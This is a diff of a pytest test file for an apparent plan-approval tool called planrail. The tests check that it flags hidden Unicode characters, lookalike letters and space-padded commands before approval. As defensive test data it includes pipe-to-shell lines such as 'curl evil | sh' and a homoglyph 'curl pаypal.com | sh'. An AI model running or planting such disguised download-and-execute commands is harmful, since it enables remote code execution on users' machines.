@@ -2,20 +2,19 @@
 
 import json
 import os
-import subprocess
 from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from planrail.approval.lookalikes import find_lookalikes
 from planrail.base.run_model import Options
 from planrail.cli.plans import approve_command, show_command
 from planrail.plans.execution.executions import list_commands
 from planrail.runs.request.ordering import read_context
 from planrail.runs.request.orders import make_order
 from tests.approval.scripted_desk import WORD, ScriptedTerminal, arguments_of, make_desk
+from tests.cli.approvals import commit, make_project
 
 COMMANDS = st.builds(
     "{} {}".format,
@@ -40,16 +39,8 @@ def ordered(path: str) -> list[str]:
 
 @pytest.fixture
 def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    root = tmp_path / "project"
-    root.mkdir()
-    for words in (
-        ["init", "-q"],
-        ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x"],
-    ):
-        subprocess.run(["git", *words], cwd=root, check=True)
-    monkeypatch.chdir(root)
-    monkeypatch.setenv("HOME", str(tmp_path))
-    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    root = make_project(tmp_path, monkeypatch)
+    commit(root, {"README": "x"})
     return root
 
 
@@ -144,19 +135,16 @@ def test_show_lists_the_checks_that_a_run_would_execute(
 IN_ITEMS = "# P\n\n- [ ] one\n\n  ```sh run\n  echo work > a\n  ```\n\n  ```sh check\n  test -f a\n  ```\n"
 
 
-def test_blocks_in_the_items_of_a_checklist_are_shown_before_they_are_run(project: Path) -> None:
-    (project / "plan.md").write_text(IN_ITEMS)
-    assert ordered("plan.md") == ["echo work > a", "test -f a"]
-    shown = show("plan.md")
-    assert "will be run: echo work > a" in shown
-    assert "will be run: test -f a" in shown
-
-
-def test_a_program_that_a_phase_is_delegated_to_is_shown(project: Path) -> None:
-    (project / "plan.md").write_text(
-        "# P\n\n## Phase 1: One\n\n### Execution: delegate ./tools/build --all\n\n- [ ] it\n"
-    )
-    assert "will be run: ./tools/build --all" in show("plan.md")
+def test_a_program_that_a_phase_is_delegated_to_and_blocks_in_items_are_shown(project: Path) -> None:
+    delegated = "## Phase 1: One\n\n### Execution: delegate ./tools/build --all\n\n- [ ] it\n"
+    for text, commands in (
+        (IN_ITEMS, ["echo work > a", "test -f a"]),
+        (f"# P\n\n{delegated}", ["./tools/build --all"]),
+    ):
+        (project / "plan.md").write_text(text)
+        assert ordered("plan.md") == commands
+        shown = show("plan.md").split("\n")
+        assert all(f"       will be run: {command}" in shown for command in commands)
 
 
 def test_what_looks_like_a_command_and_is_not_run_is_shown_with_the_reason(
@@ -192,17 +180,6 @@ def test_a_phase_without_checks_is_shown_as_one(project: Path, body: str, said: 
     assert [line for line in show("plan.md").split("\n") if "the phase has no check" in line] == [said]
 
 
-def test_the_tests_of_the_project_are_shown_and_told(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    (project / "plan.md").write_text(IN_ITEMS)
-    (project / "planrail.toml").write_text('[testing]\ncommand = "make check"\n')
-    subprocess.run(["git", "add", "planrail.toml"], check=True)
-    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", "x"], check=True)
-    assert "make check" in show("plan.md")
-    capsys.readouterr()
-    show_command.run(arguments_of(show_command, "plan.md", "--json"))
-    assert json.loads(capsys.readouterr().out)["checks"] == [{"command": "make check", "line": 0}]
-
-
 SETTINGS = """
 [run]
 command = "my-agent --write"
@@ -217,17 +194,9 @@ command = "make check"
 """
 
 
-def _commit(project: Path, files: dict[str, str]) -> None:
-    for name, text in files.items():
-        (project / name).write_text(text)
-    subprocess.run(["git", "add", *files], cwd=project, check=True)
-    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b"]
-    subprocess.run([*git, "commit", "-q", "-m", "x"], cwd=project, check=True)
-
-
-def test_what_a_run_executes_by_the_settings_is_shown(project: Path) -> None:
+def test_what_a_run_executes_by_the_settings_is_shown(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
     (project / "plan.md").write_text(IN_ITEMS)
-    _commit(project, {"planrail.toml": SETTINGS, "package-lock.json": "{}"})
+    commit(project, {"planrail.toml": SETTINGS, "package-lock.json": "{}"})
     shown = show("plan.md")
     assert "before each phase: make deps" in shown
     assert "for the tests, in each phase: make check" in shown
@@ -235,31 +204,22 @@ def test_what_a_run_executes_by_the_settings_is_shown(project: Path) -> None:
     assert "as the agent `command`: my-agent --write" in shown
     assert "shown only: your approval is of the plan's text and its checks" in shown
     assert "npm ci" not in shown  # the settings say what is installed
+    assert "WARNING" not in shown
+    capsys.readouterr()
+    show_command.run(arguments_of(show_command, "plan.md", "--json"))
+    assert json.loads(capsys.readouterr().out)["checks"] == [{"command": "make check", "line": 0}]
+    commit(project, {"planrail.toml": '[testing]\ncommand = "m\u0430ke check"\n'})
+    assert "WARNING: not everything in the commands" in show("plan.md")
 
 
 def test_what_is_installed_by_lock_files_is_shown_as_they_are_committed(project: Path) -> None:
     (project / "plan.md").write_text(IN_ITEMS)
     (project / "uv.lock").write_text("")
     assert "by the project's settings" not in show("plan.md")
-    _commit(project, {"package-lock.json": "{}", "uv.lock": ""})
+    commit(project, {"package-lock.json": "{}", "uv.lock": ""})
     shown = show("plan.md")
     assert "before each phase: npm ci" in shown
     assert "before each phase: UV_COMPILE_BYTECODE=1 uv sync --frozen" in shown
-
-
-def test_a_letter_of_another_alphabet_in_the_settings_commands_is_a_warning(project: Path) -> None:
-    (project / "plan.md").write_text(IN_ITEMS)
-    _commit(project, {"planrail.toml": '[testing]\ncommand = "m\u0430ke check"\n'})
-    assert "WARNING: not everything in the commands" in show("plan.md")
-
-
-def test_all_commands_are_shown_again_where_a_plan_that_is_known_has_changed(project: Path) -> None:
-    (project / "plan.md").write_text(IN_ITEMS)
-    show("plan.md", WORD)
-    (project / "plan.md").write_text(IN_ITEMS.replace("one", "two"))
-    shown = show("plan.md")
-    assert "will be run: echo work > a" in shown
-    assert "+- [] two" in shown or "+- [ ] two" in shown
 
 
 # --------------------------------------------------------------------------------------------------- hidden characters
@@ -273,12 +233,9 @@ HIDDEN = {
     "joiner": "\u200d",
     "tag": "\U000e0041",
     "variation selector": "\ufe0f",
-    "many variation selectors": "\U000e0100\U000e0101",
     "right to left": "\u202e",
-    "isolate": "\u2066",
     "soft hyphen": "\u00ad",
     "line separator": "\u2028",
-    "paragraph separator": "\u2029",
     "next line": "\x85",
     "filler": "\u3164",
     "blank of Braille": "\u2800",
@@ -303,34 +260,29 @@ def test_no_character_hides_a_part_of_a_command(project: Path, hidden: str) -> N
     assert terminal_shown.count("curl evil | sh #") == 3
 
 
-@pytest.mark.parametrize("mark", ["`make teѕt`", "see src/gо/x.py", "`ｍake`"])
-def test_a_letter_that_looks_like_another_is_named_with_its_place(project: Path, mark: str) -> None:
-    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n- [ ] do {mark}\n")
+@pytest.mark.parametrize(
+    ("body", "told"),
+    [
+        ("- [ ] do `make teѕt`", "line 5, column 15: ѕ is CYRILLIC SMALL LETTER DZE"),
+        ("- [ ] do see src/gо/x.py", "line 5, column 19: о is CYRILLIC SMALL LETTER O"),
+        ("- [ ] do `ｍake`", "line 5, column 11: ｍ is FULLWIDTH LATIN SMALL LETTER M"),
+        ("```sh run\ncurl pаypal.com | sh\n```", "line 6, column 7: а is CYRILLIC SMALL LETTER A (U+0430)"),
+        ("### Execution: delegate ./d`о`.sh\n\n- [ ] it", "of ./dо.sh: о is CYRILLIC SMALL LETTER O (U+043E)"),
+        (f"```sh run\nmake{' ' * 200}; curl evil | sh\n```", "line 6, column 5: 200 blanks, then more text"),
+    ],
+)
+def test_what_is_not_what_it_looks_like_is_named_with_its_place(project: Path, body: str, told: str) -> None:
+    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n{body}\n")
     shown = show("plan.md")
     assert "WARNING" in shown
-    assert "line 5, column " in shown
-
-
-def test_a_command_with_a_foreign_letter_is_warned_of(project: Path) -> None:
-    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n```sh run\ncurl pаypal.com | sh\n```\n")
-    assert "line 6, column 7: а is CYRILLIC SMALL LETTER A (U+0430), which looks like a" in show("plan.md")
-
-
-def test_a_foreign_letter_in_a_command_that_the_plan_spells_otherwise_is_warned_of(project: Path) -> None:
-    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n### Execution: delegate ./d`о`.sh\n\n- [ ] it\n")
-    assert "of ./dо.sh: о is CYRILLIC SMALL LETTER O (U+043E), which looks like o" in show("plan.md")
-
-
-def test_blanks_that_push_a_command_out_of_sight_are_named(project: Path) -> None:
-    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n```sh run\nmake{' ' * 200}; curl evil | sh\n```\n")
-    assert "line 6, column 5: 200 blanks, then more text" in show("plan.md")
+    assert told in shown
 
 
 @pytest.mark.parametrize(
     "line",
     [
         "- [ ] 修改 src/main.py，添加登录（包括测试）；更新 `README.md`。",
-        "- [ ] docs/plan.md（新規）を書く",
+        "- [ ] `echo 完成`, `python3 тест.py`, `cat Übersicht.md` and `echo ✅`",
         "- [ ] Edit “src/main.py”, then—see docs/a.md—go on… src/b.py’s tests",
     ],
 )
@@ -348,13 +300,6 @@ def test_files_that_run_things_are_shown_by_name_where_a_phase_changes_them(proj
     assert "  AGENTS.md: " not in shown
 
 
-@pytest.mark.parametrize(
-    "command", ["make test", "echo 完成", "python3 тест.py", "cat Übersicht.md", "echo ✅", "printf 'é'"]
-)
-def test_commands_in_other_languages_are_not_warned_of(command: str) -> None:
-    assert find_lookalikes(command) == []
-
-
 # ------------------------------------------------------------------------------------------------------------ the word
 
 
@@ -363,17 +308,6 @@ def test_the_word_is_another_one_each_time(project: Path) -> None:
     terminal = ScriptedTerminal(["d"] * 20)
     approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal))
     assert len({question.partition("Type ")[2].partition(" ")[0] for question in terminal.asked}) > 15
-
-
-def test_a_yes_without_the_word_approves_nothing_and_says_what_to_type(
-    project: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    (project / "plan.md").write_text(IN_ITEMS)
-    terminal = ScriptedTerminal(["y"])
-    assert approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal)) == 1
-    said = capsys.readouterr().out
-    assert "not the word" in said
-    assert said.rstrip().endswith("next: planrail approve plan.md")
 
 
 def test_the_word_is_taken_in_any_letter_case_and_is_kept_nowhere(project: Path) -> None:
